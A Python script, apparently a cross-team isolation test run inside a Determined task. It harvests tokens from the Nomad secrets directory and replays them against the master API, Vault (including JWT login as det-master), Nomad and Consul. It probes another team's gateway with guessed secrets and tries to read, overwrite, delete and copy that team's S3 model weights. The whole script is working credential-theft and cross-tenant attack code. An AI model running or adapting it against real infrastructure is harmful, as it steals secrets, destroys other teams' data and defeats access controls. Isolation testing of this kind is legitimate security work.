"""Tries everything that can be thought of with the things of another team, from inside a task.

tries.json has the requests to the master, and what else there is: the other team's names in its bucket, Vault,
Nomad, Consul and the gateway of one of its tasks. Each attempt is printed as a line of JSON.
"""

import glob
import json
import os
import socket
import ssl
import urllib.error
import urllib.request

import boto3
from determined import core

with open("tries.json") as file:
    given = json.load(file)
master = os.environ["DET_MASTER"].rstrip("/")
tokens = {"owner": os.environ["DET_USER_TOKEN"], "attempt": os.environ["DET_SESSION_TOKEN"]}


def say(name, status, text=""):
    marks = [mark for mark in given["marks"] if mark in text]
    print("TRIED " + json.dumps({"name": name, "status": status, "marks": marks, "text": text[:300]}), flush=True)


def ask(name, method, url, body=None, headers=None):
    for word in ("DET_TASK_ID", "DET_EXPERIMENT_ID"):
        url = url.replace("{{" + word + "}}", os.environ[word])
        body = body and body.replace("{{" + word + "}}", os.environ[word])
    data = body.encode() if body is not None else None
    request = urllib.request.Request(url, data=data, method=method, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            say(name, answer.status, answer.read(1 << 20).decode(errors="replace"))
    except urllib.error.HTTPError as error:
        say(name, error.code, error.read(1 << 20).decode(errors="replace"))
    except Exception as error:
        say(name, 0, f"{type(error).__name__}: {error}")


def identities():
    """Every token that lies in this task's files."""
    found = []
    for name in glob.glob(os.path.join(os.environ["NOMAD_SECRETS_DIR"], "*")):
        if os.path.isfile(name):
            with open(name, errors="replace") as file:
                found.append(file.read().strip())
    return [text for text in found if text.count(".") == 2]


def gateway(address):
    """Speaks to the gateway of another team's task, with and without what could be its secret."""
    host, port = address.rsplit(":", 1)
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for secret in ["", *tokens.values(), "x" * 43]:
        try:
            with socket.create_connection((host, int(port)), timeout=20) as plain:
                with context.wrap_socket(plain) as conn:
                    head = f"X-Detent-Gateway: {secret}\r\n" if secret else ""
                    conn.sendall(f"GET / HTTP/1.1\r\nHost: x\r\n{head}\r\n".encode())
                    first = conn.recv(4000).decode(errors="replace")
            say("gateway", int(first.split()[1]), first)
        except Exception as error:
            say("gateway", 0, f"{type(error).__name__}: {error}")


def bucket():
    storage = json.loads(os.environ["DET_EXPERIMENT_CONFIG"])["checkpoint_storage"]
    s3 = boto3.client("s3", endpoint_url=storage["endpoint_url"])
    name, own = storage["bucket"], storage["prefix"]
    key = f"{given['prefix']}/weights"
    for what, call in {
        "own write": lambda: s3.put_object(Bucket=name, Key=f"{own}/note", Body=b"x"),
        "own read": lambda: s3.get_object(Bucket=name, Key=f"{own}/note"),
        "read": lambda: s3.get_object(Bucket=name, Key=key),
        "list": lambda: s3.list_objects_v2(Bucket=name, Prefix=given["prefix"].split("/")[0]),
        "list all": lambda: s3.list_objects_v2(Bucket=name),
        "overwrite": lambda: s3.put_object(Bucket=name, Key=key, Body=b"x"),
        "delete": lambda: s3.delete_object(Bucket=name, Key=key),
        "copy": lambda: s3.copy_object(Bucket=name, Key=f"{own}/stolen", CopySource={"Bucket": name, "Key": key}),
    }.items():
        try:
            call()
            say("s3 " + what, 200)
        except Exception as error:
            code = getattr(error, "response", {}).get("ResponseMetadata", {}).get("HTTPStatusCode", 0)
            say("s3 " + what, code, str(error))


with core.init() as context:
    for one in given["requests"]:
        for who, token in tokens.items():
            headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
            ask(f"{who} {one['name']}", one["method"], master + one["path"], one.get("body"), headers)
    for path in given["vault_reads"]:
        ask("vault read", "GET", f"{given['vault']}/v1/{path}")
        for identity in identities():
            ask("vault read", "GET", f"{given['vault']}/v1/{path}", headers={"X-Vault-Token": identity})
    for identity in identities():
        for role in ("det-task", "det-master"):
            ask(
                "vault sign-in",
                "POST",
                f"{given['vault']}/v1/auth/jwt-nomad/login",
                json.dumps({"role": role, "jwt": identity}),
            )
    for path in given["nomad_reads"]:
        ask("nomad", "GET", given["nomad"] + path)
        for identity in identities():
            ask("nomad", "GET", given["nomad"] + path, headers={"X-Nomad-Token": identity})
    for path in given["consul_reads"]:
        ask("consul", "GET", given["consul"] + path)
    gateway(given["gateway"])
    bucket()
    for path in given["files"]:
        try:
            with open(path) as file:
                say("file", 200, file.read(4000))
        except OSError as error:
            say("file", 403, str(error))
    print("ALL TRIED", flush=True)
    context.train.report_validation_metrics(steps_completed=1, metrics={"loss": 0.5})
